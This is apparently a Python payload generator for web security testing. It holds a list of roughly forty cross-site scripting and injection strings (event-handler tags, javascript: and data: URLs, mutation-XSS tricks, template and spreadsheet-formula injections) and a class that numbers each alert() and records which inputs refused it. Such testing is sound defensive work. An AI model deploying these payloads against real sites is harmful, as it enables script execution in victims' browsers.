"""Texts that run wherever a page forgets to write them as text; each one calls `alert(number)`."""

from collections.abc import Iterator
from dataclasses import dataclass, field

# What a page does with a text decides which of these runs: between tags, in an attribute, in a script,
# in a style, in an address, read twice, or taken for Markdown, a template or a spreadsheet.
TEXTS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    '"><svg onload=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    '" autofocus onfocus=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "javascript:alert({n})",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "';alert({n});//",
    "</style><img src=x onerror=alert({n})>",
    "<details open ontoggle=alert({n})>a</details>",
    '<a href="javascript:alert({n})">pulsa</a>',
    '<a href="data:text/html,<script>opener.alert({n})</script>" target=_blank>b</a>',
    '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
    '<iframe src="javascript:parent.alert({n})"></iframe>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert({n})</script>'/></foreignObject></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style></math><img src=x onerror=alert({n})>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<video><source onerror=alert({n})></video>",
    "<body onload=alert({n})>",
    '<meta http-equiv=refresh content="0;url=javascript:alert({n})">',
    '<base href="javascript:alert({n})//">',
    "<form action=javascript:alert({n})><button autofocus>c</button></form>",
    '<object data="data:text/html,<script>parent.alert({n})</script>"></object>',
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>\">",
    "<style>@import 'data:text/css,*{{x:expression(alert({n}))}}';</style>",
    "[pulsa](javascript:alert({n}))",
    '![x](x" onerror="alert({n}))',
    "&lt;img src=x onerror=alert({n})&gt;",
    "%3Cimg src=x onerror=alert({n})%3E",
    "\\u003cimg src=x onerror=alert({n})\\u003e",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    '=HYPERLINK("javascript:alert({n})","d")',
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<!--><img src=x onerror=alert({n})>-->",
    "x\r\nATTACH:javascript:alert({n})",
    "<x-a tabindex=1 autofocus onfocus=alert({n})>",
)
PARAGRAPHS = 6


@dataclass
class Item:
    """One thing put in: where, its number, and whether the door took it."""

    number: int
    where: str
    what: str
    refused: bool = False


@dataclass
class Corpus:
    """Deals the texts out, each with a number of its own, and remembers where each one went."""

    items: list[Item] = field(default_factory=list)
    _turn: int = 0

    def text(self, where: str, most: int = 200) -> str:
        """Return the next text that fits there."""
        for _ in TEXTS:
            template = TEXTS[self._turn % len(TEXTS)]
            self._turn += 1
            text = template.format(n=len(self.items) + 1)
            if len(text) <= most:
                self.items.append(Item(len(self.items) + 1, where, text))
                return text
        raise ValueError(f"ningún texto cabe en {where}")

    def every(self, where: str, most: int = 200) -> Iterator[str]:
        """Return each of the texts that fit, once."""
        self._turn = 0
        for _ in range(sum(len(each) + 3 <= most for each in TEXTS)):
            yield self.text(where, most)

    def many(self, where: str, most: int = 200) -> Iterator[str]:
        """Return all the texts that fit, some in each: a paragraph each, for boxes that take several."""
        dealt = list(self.every(where, most))
        for turn in range(0, len(dealt), PARAGRAPHS):
            yield "\n\n".join(dealt[turn : turn + PARAGRAPHS])

    def file(self, where: str, name: str) -> Item:
        """Note a file; its bytes carry the number."""
        self.items.append(Item(len(self.items) + 1, where, name))
        return self.items[-1]

    def refused(self, since: int) -> None:
        """Note that the door took none of what was dealt out since then."""
        for item in self.items[since:]:
            item.refused = True
